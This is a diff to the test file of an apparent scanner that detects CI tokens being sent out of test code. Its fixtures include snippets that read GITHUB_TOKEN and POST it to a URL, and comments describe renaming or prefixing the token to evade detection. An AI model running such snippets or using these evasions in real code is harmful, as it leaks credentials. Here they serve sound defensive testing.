@@ -105,6 +105,10 @@ const TOKEN_HANDED_ON: FindingRow[] = [
   ['test/a.test.js', "const t = process.env.GITHUB_TOKEN;\nconst body = JSON.stringify({ t });\nawait fetch(u, { method: 'POST', body });"],
   // Found attacking the fix before committing it: its first form read four rounds of copies, then read on as if none were left (fail open).
   ['tests/t.py', "t = os.environ['GITHUB_TOKEN']\na = t\nb = a\nc = b\nd = c\ne = d\nf = e\nrequests.post(u, data=f)"],
+  // Found attacking the fix before committing it: a header word in the carrier's NAME (`auth = t`) or a header's prefix in
+  // its value (`'token ' + t`) left it out; only a header's or a client's key in the value does now.
+  ['tests/t.py', "t = os.environ['GITHUB_TOKEN']\nauth = t\nrequests.post(u, data=auth)"],
+  ['tests/t.py', "t = os.environ['GITHUB_TOKEN']\ns = 'token ' + t\nrequests.post(u, data=s)"],
   ['tests/t.py', "def send():\n    requests.post(u, data=e)\ne = d\nd = c\nc = b\nb = a\na = t\nt = os.environ['GITHUB_TOKEN']"],
 ];
 
@@ -139,11 +143,10 @@ describeFindings('review 67', [
 ]);
 
 describeAccepted('review 67: ordinary code near its fixes', [
-  // R67-1: a response read as data, a regular expression's exec, a body handed to a child as its environment.
+  // R67-1: a response read as data, a regular expression's exec.
   ['tests/t.py', "r = requests.get(u)\nassert r.status_code == 200\ndata = r.json()\nassert data['ok']\nsubprocess.run(['make', 'test'], check=True)"],
   ['tests/x.test.js', "const res = await fetch(`${base}/health`);\nconst body = await res.text();\nexpect(body).toContain('ok');\nconst m = /version (\\d+)/.exec(body);\nexecSync('npm run build');"],
   ['tests/t.py', "resp = client.get('/api/items')\nitems = resp.json()\nos.system('make lint')\nsubprocess.run(['pytest', '-q', 'tests/'])"],
-  ['tests/x.test.js', "const res = await request(app).get('/');\nexecSync('npm run lint', { env: { ...process.env, BODY: res.text } });"],
   ['tests/t.py', "with urlopen(u) as r:\n    data = json.load(r)\nassert data['ok']\nsubprocess.run(['make'])"],
   // R67-2 to R67-4: other `with` and `for` forms, templates that are no tag's, tags given no download, a call's result.
   ['tests/t.py', "with (open('a.txt') as f, open('b.txt') as g):\n    g.write(f.read())\nfor i, name in enumerate(names):\n    subprocess.run(['black', name])"],
@@ -172,6 +175,7 @@ describeAccepted('review 67: ordinary code near its fixes', [
   ['test/a.test.js', "const token = process.env.NPM_TOKEN;\nconst hasToken = Boolean(token);\nawait fetch(u, { method: 'POST', body: JSON.stringify({ hasToken }) });"],
   ['test/a.test.js', "const { GITHUB_TOKEN } = process.env;\nconst url = `https://x-access-token:${GITHUB_TOKEN}@github.com/o/r.git`;\nexecSync(`git clone ${url}`);"],
   ['test/a.test.js', "const t = process.env.GITHUB_TOKEN;\nclient.setToken(t);\nawait client.get('/user');"],
+  ['tests/t.py', "t = os.environ['GITHUB_TOKEN']\nbearer = f'Bearer {t}'\nrequests.get(u, headers={'Authorization': bearer})"],
 ]);
 
 describe('review 67: its readings cost linear time', () => {
